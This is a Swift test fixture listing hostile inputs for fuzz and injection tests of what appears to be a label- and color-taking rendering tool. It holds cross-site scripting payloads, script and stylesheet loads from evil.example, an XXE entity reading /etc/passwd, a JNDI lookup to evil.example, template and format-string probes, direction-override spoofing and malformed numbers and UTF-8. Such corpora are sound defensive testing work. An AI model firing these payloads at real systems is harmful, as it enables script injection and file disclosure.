/// Hostile strings shared by the fuzz test and the injection corpus: what a CMS, a user or an
/// attacker could pass in any option.
enum HostilePayloads {
    /// Markup and script injection, markup delimiters, entities, quoting, and Unicode that
    /// disguises or reorders text. Printable: no control characters, so each is a valid label.
    static let injection: [String] = [
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "x\" xmlns:evil=\"http://evil.example",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]>",
        "--",
        "-->",
        "<!--",
        "<!-- -- -->",
        "</style><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</svg><script>alert(1)</script>",
        "<?xml-stylesheet href=\"http://evil.example/x.css\"?>",
        "<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;",
        "\"",
        "'",
        "\"'\"'",
        "`${alert(1)}`",
        "&amp;",
        "&lt;script&gt;",
        "&#x3C;script&#x3E;",
        "&#60;",
        "&",
        "&&;;",
        "&nbsp;",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://evil.example/",
        "url(https://evil.example/x.png)",
        "url(#x) url(javascript:alert(1))",
        "red;}</style><script>alert(1)</script>",
        "expression(alert(1))",
        "\u{202E}gnp.exe",                   // RIGHT-TO-LEFT OVERRIDE
        "abc\u{2066}def\u{2069}ghi",          // LEFT-TO-RIGHT ISOLATE … POP DIRECTIONAL ISOLATE
        "\u{202A}\u{202B}\u{202C}\u{202D}\u{2067}\u{2068}\u{200E}\u{200F}\u{061C}",
        "a\u{200D}b\u{200C}c\u{200B}d\u{2060}e",  // zero-width joiner, non-joiner, space, word joiner
        "\u{FEFF}BOM first",
        "👩‍👩‍👧‍👦 ⭐️ 🏳️‍🌈 🇺🇳",
        "e\u{301}\u{302}\u{303}\u{304}\u{305}",   // stacked combining marks
        "עברית العربية",
        "Ω≈ç√∫˜µ≤≥÷ 𝕏 𝟘 ﷽",
        "\u{2028}line\u{2029}paragraph",
        scalars(0xFDD0, 0xFDEF, 0x1FFFE, 0x10FFFF),  // noncharacters that XML 1.0 still allows
        "\u{E000}\u{F8FF}",                     // private use
        " ",
        "  leading and trailing  ",
        "",
        "%s%n%x",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "\\\\u003cscript\\\\u003e",
    ]

    /// Characters a label must refuse: C0 controls (NUL included), DEL, C1 controls, and the two
    /// code points XML cannot hold at all.
    static let refusedInLabels: [String] = [
        "\u{0}", "a\u{0}b", "\u{1}", "\u{7}", "\u{8}", "\t", "\n", "\r", "\r\n", "\u{B}", "\u{C}",
        "\u{1B}[31mred\u{1B}[0m", "\u{1F}", "\u{7F}", "\u{80}", "\u{85}", "\u{9F}",
        scalars(0xFFFE), "a" + scalars(0xFFFF),
        "<script>\n</script>",
    ]

    /// Number text that must never be read as a number, or only as one out of range.
    static let numbers: [String] = [
        "nan", "NaN", "-nan", "nan(0x1)", "inf", "+inf", "-inf", "Infinity", "infinity", "INF",
        "0x1p2", "0x10", "0X1P-2", "0x1.8p1", "1e400", "-1e400", "1e-400", "1E2", "5e0", "0.5e1",
        "-0", "-0.0", "+0", "+1", "-1", "7,5", "3,5", "1,000", "1 000", "1'000", "1_000",
        "", " ", " 3", "3 ", "3\t", "\t3", "3\n", "٣", "３", "१", "½", "⅓", "3.", ".5", "1..2",
        "1.2.3", "3.5.", "0.0000000000000000000000000000001", "99999999999999999999999999999999",
        "000000000000000000000000000000005", "1" + String(repeating: "0", count: 40),
        "9223372036854775807", "9223372036854775808", "18446744073709551616", "-9223372036854775808",
        "0b101", "0o7", "07", "0005", "00000", "3.5\u{0}", "\u{200B}3", "3\u{FE0F}", "3\u{301}",
        "10000", "101", "100.0000001", "2000.0000001", "4.0000001", "0", "0.0", "2001", "1e3", "1.0e0",
        "true", "null", "undefined", "3;", "3px", "3em", "50%", "--1", "-", "=", "3=4",
        String(repeating: "9", count: 400), String(repeating: "1", count: 5000),
    ]

    /// Byte sequences that are not UTF-8: a stray continuation byte, bytes never used, an
    /// overlong `/`, an encoded surrogate, a truncated sequence, a code point past U+10FFFF.
    static let invalidUTF8: [[UInt8]] = [
        [0xFF], [0x61, 0xFF, 0x62], [0x80], [0xFE, 0xFE], [0xC0, 0xAF], [0xC1, 0xBF],
        [0xED, 0xA0, 0x80], [0xED, 0xBF, 0xBF], [0xE2, 0x82], [0x61, 0xE2, 0x82],
        [0xF4, 0x90, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80],
        Array("--label=".utf8) + [0xFF], Array("--colors".utf8) + [0xC3],
    ]

    /// The text of these code points. Swift literals refuse noncharacters such as U+FFFE and
    /// U+FDD0, so payloads holding them are built from their values.
    static func scalars(_ values: UInt32...) -> String {
        var text = ""
        text.unicodeScalars.append(contentsOf: values.map { Unicode.Scalar($0)! })
        return text
    }
}
